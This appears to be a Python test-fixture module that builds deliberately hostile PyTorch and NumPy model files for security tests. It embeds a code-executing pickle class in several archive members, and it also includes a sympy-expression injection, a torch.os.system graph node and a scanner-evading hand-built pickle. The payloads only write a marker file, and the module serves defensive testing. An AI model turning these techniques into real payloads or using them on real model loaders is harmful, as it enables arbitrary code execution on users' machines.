"""Hostile model and data files for the security tests: each would write ``marker`` if any of
it were unpickled / evaluated / run. Built from real torch archives with one member replaced,
so everything else about them is what torch itself writes."""

from __future__ import annotations

import io
import json
import pickle
import pickletools
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import torch
from torch import nn


class Evil:
    """Unpickling this runs ``exec``, which writes the marker file."""

    def __init__(self, marker: Path) -> None:
        self.marker = str(marker)

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (f"open({self.marker!r}, 'w').write('pwned')",))


class _Net(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(x)


def good_pt2(path: Path) -> Path:
    torch.manual_seed(0)
    ep = torch.export.export(_Net().eval(), (torch.randn(1, 4),))
    torch.export.save(ep, path)
    return path


def good_torchscript(path: Path) -> Path:
    torch.manual_seed(0)
    torch.jit.save(torch.jit.trace(_Net().eval(), (torch.randn(1, 4),)), str(path))
    return path


def torch_save_bytes(obj: object) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def rewrite_zip(src: Path, dst: Path, edit: Callable[[str, bytes], bytes | None]) -> Path:
    """Copy zip ``src`` to ``dst`` with ``edit(name, data)`` → new data (None: drop member)."""
    with zipfile.ZipFile(src) as zi, zipfile.ZipFile(dst, "w") as zo:
        for info in zi.infolist():
            data = edit(info.filename, zi.read(info))
            if data is not None:
                zo.writestr(info, data)
    return dst


def _suffix(name: str, suffix: str, new: bytes) -> Callable[[str, bytes], bytes | None]:
    return lambda n, d: new if n.endswith(suffix) else d


def pt2_sample_inputs(base: Path, dst: Path, marker: Path) -> Path:
    """The reported hole: torch.export.load retries this member with weights_only=False."""
    return rewrite_zip(
        base, dst, _suffix("", "data/sample_inputs/model.pt", torch_save_bytes(Evil(marker)))
    )


def pt2_pickled_weight(base: Path, dst: Path, marker: Path) -> Path:
    """A weight marked use_pickle: torch.export.load unpickles it with no restriction."""

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("model_weights_config.json"):
            cfg = json.loads(data)
            for meta in cfg["config"].values():
                if meta["path_name"] == "weight_0":
                    meta["use_pickle"] = True
            return json.dumps(cfg).encode()
        if name.endswith("data/weights/weight_0"):
            return torch_save_bytes(Evil(marker))
        return data

    return rewrite_zip(base, dst, edit)


def pt2_graph_call(base: Path, dst: Path, marker: Path) -> Path:
    """A graph node whose target is ``torch.os.system`` (resolved as an attribute path)."""

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            doc = json.loads(data)
            node = doc["graph_module"]["graph"]["nodes"][0]
            node["target"] = "torch.os.system"
            return json.dumps(doc).encode()
        return data

    return rewrite_zip(base, dst, edit)


def pt2_sympy_expr(base: Path, dst: Path, marker: Path) -> Path:
    """A tensor size given as a symbolic expression: torch.export.load parses it with
    ``sympy.sympify``, which evaluates it as Python (this one writes the marker)."""
    code = f"__import__('builtins').exec(\"open({str(marker)!r},'w')\") or 1"

    def edit(name: str, data: bytes) -> bytes:
        if name.endswith("models/model.json"):
            doc = json.loads(data)
            values = doc["graph_module"]["graph"]["tensor_values"]
            first = values[next(iter(values))]
            first["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": 1}}}
            return json.dumps(doc).encode()
        return data

    return rewrite_zip(base, dst, edit)


def pt2_opaque_constant(base: Path, dst: Path, marker: Path) -> Path:
    """An extra ``opaque_obj_`` constant (loaded with plain pickle.loads)."""
    out = rewrite_zip(base, dst, lambda n, d: d)
    with zipfile.ZipFile(out) as z:
        top = z.namelist()[0].split("/", 1)[0]
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(f"{top}/data/constants/opaque_obj_0", pickle.dumps(Evil(marker)))
    return out


def pt2_aoti(base: Path, dst: Path, marker: Path) -> Path:
    """An AOTInductor member: a shared library loading would dlopen."""
    out = rewrite_zip(base, dst, lambda n, d: d)
    with zipfile.ZipFile(out) as z:
        top = z.namelist()[0].split("/", 1)[0]
    with zipfile.ZipFile(out, "a") as z:
        z.writestr(f"{top}/data/aotinductor/model/model.so", b"\x7fELF" + bytes(60))
    return out


def torchscript_data_pkl(base: Path, dst: Path, marker: Path) -> Path:
    return rewrite_zip(base, dst, _suffix("", "/data.pkl", pickle.dumps(Evil(marker), protocol=2)))


def weights_pickle(dst: Path, marker: Path) -> Path:
    """``torch.save`` of an object whose unpickling runs code."""
    dst.write_bytes(torch_save_bytes({"fc.weight": torch.zeros(2, 4), "x": Evil(marker)}))
    return dst


def weights_bare_pickle(dst: Path, marker: Path) -> Path:
    """Not a zip at all: a plain pickle (the pre-1.6 torch.save layout starts like this)."""
    dst.write_bytes(pickle.dumps(Evil(marker), protocol=2))
    return dst


def stack_trick_pickle(marker: Path) -> bytes:
    """Protocol-4 pickle that pushes an allowed name pair after the real one and pops it, so a
    scanner that looks at the last two strings (not the stack) would see collections.OrderedDict.
    """
    code = f"open({str(marker)!r}, 'w')"

    def s(t: str) -> bytes:
        b = t.encode()
        return b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE

    body = (
        b"\x80\x04"
        + s("builtins")
        + s("exec")
        + s("collections")
        + s("OrderedDict")
        + b"00"  # POP POP
        + b"\x93"  # STACK_GLOBAL
        + s(code)
        + b"\x85"  # TUPLE1
        + b"R."  # REDUCE STOP
    )
    pickletools.dis(body, out=io.StringIO())  # well-formed
    return body


def weights_stack_trick(dst: Path, marker: Path) -> Path:
    base = torch_save_bytes({"w": torch.zeros(1)})
    tmp = dst.with_suffix(".base")
    tmp.write_bytes(base)
    rewrite_zip(tmp, dst, _suffix("", "/data.pkl", stack_trick_pickle(marker)))
    tmp.unlink()
    return dst


def duplicate_member_zip(dst: Path, marker: Path) -> Path:
    """Two members named data.pkl: one clean, one hostile (zip readers may pick either)."""
    base = torch_save_bytes({"w": torch.zeros(1)})
    with zipfile.ZipFile(io.BytesIO(base)) as z:
        items = [(i, z.read(i)) for i in z.infolist()]
    with zipfile.ZipFile(dst, "w") as zo:
        for info, data in items:
            zo.writestr(info, data)
            if info.filename.endswith("data.pkl"):
                with pytest_warnings_off():
                    zo.writestr(info.filename, pickle.dumps(Evil(marker), protocol=2))
    return dst


class pytest_warnings_off:  # zipfile warns about duplicate names
    def __enter__(self) -> None:
        import warnings

        self._w = warnings.catch_warnings()
        self._w.__enter__()
        warnings.simplefilter("ignore")

    def __exit__(self, *exc: object) -> None:
        self._w.__exit__(*exc)


def npy_object(dst: Path, marker: Path) -> Path:
    """An object-dtype .npy (its data is a pickle)."""
    arr = np.empty(2, dtype=object)
    arr[0] = Evil(marker)
    np.save(dst, arr, allow_pickle=True)
    return dst


def npz_object(dst: Path, marker: Path) -> Path:
    """An .npz whose one array is object-dtype (the check used to cover .npy only)."""
    arr = np.empty(2, dtype=object)
    arr[0] = Evil(marker)
    np.savez(dst, x=arr)
    return dst
